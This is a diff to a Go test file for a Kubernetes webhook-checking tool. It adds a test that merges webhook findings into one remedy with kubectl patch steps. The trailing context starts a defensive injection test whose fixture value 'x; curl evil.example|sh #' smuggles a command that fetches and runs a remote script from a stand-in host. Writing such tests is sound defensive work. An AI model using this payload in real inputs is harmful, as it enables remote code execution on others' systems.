@@ -235,6 +235,19 @@ func TestCallouts(t *testing.T) {
 	}
 }
 
+// Webhooks of one configuration are one finding, whose remedy is about each of them.
+func TestJudge_Merged(t *testing.T) {
+	list := Judge([]Callout{
+		{Object: "ValidatingWebhookConfiguration/x", Name: "a.example.org", Guards: []string{"toys.example.org"}, Closed: true, Service: "s"},
+		{Object: "ValidatingWebhookConfiguration/x", Name: "b.example.org", Index: 1, Guards: []string{"pods"}, Closed: true, Service: "s"},
+	}, func(string, string) bool { return false })
+	if len(list) != 1 || list[0].Severity != finding.SeverityError || !strings.Contains(list[0].Message, "; webhook b.example.org") ||
+		!strings.Contains(list[0].Next, `"/webhooks/0/failurePolicy"`) || !strings.Contains(list[0].Next, `, then: kubectl patch`) ||
+		!strings.Contains(list[0].Next, `"/webhooks/1/failurePolicy"`) {
+		t.Errorf("got %+v", list)
+	}
+}
+
 // A snapshot may have been written by anyone: nothing of it becomes a part of a command that is no name.
 func TestJudge_Hostile(t *testing.T) {
 	const evil = "x; curl evil.example|sh #"
